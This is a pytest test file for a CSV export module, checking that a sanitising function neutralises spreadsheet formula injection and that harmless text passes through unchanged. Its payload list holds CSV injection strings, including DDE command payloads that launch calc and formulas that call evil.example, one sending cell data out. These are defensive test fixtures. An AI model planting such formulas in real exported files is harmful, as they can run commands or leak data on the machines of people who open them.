from __future__ import annotations

import csv

import pytest

from orchestration.delivery.cells import STARTS_A_FORMULA, inert, write_csv

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C notepad'!'A1'",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1:A9)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\tplain text after a tab",
    "=",
]
HARMLESS = ["", "a=b", "1+1", "Ada - Brook", "ada@mail.example", "'=1+1", "cus_00", "Bad rating; 3 orders", "ß=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert inert(text) == text


def test_nothing_is_an_empty_cell_and_numbers_are_text():
    assert inert(None) == ""
    assert inert(3) == "3"
    assert inert(-3) == "'-3"


def test_no_cell_of_a_written_file_starts_a_formula_and_no_text_is_lost(tmp_path):
    path = tmp_path / "cells.csv"
    rows = [(payload, f'quote " and, comma {payload}', None) for payload in PAYLOADS]
    write_csv(path, ("one", "two", "three"), rows)
    with path.open(encoding="utf-8", newline="") as handle:
        header, *read = csv.reader(handle)
    assert header == ["one", "two", "three"]
    assert [tuple(row) for row in read] == [("'" + one, two, "") for one, two, _ in rows]
    assert not [cell for row in read for cell in row if cell[:1] in STARTS_A_FORMULA and cell]
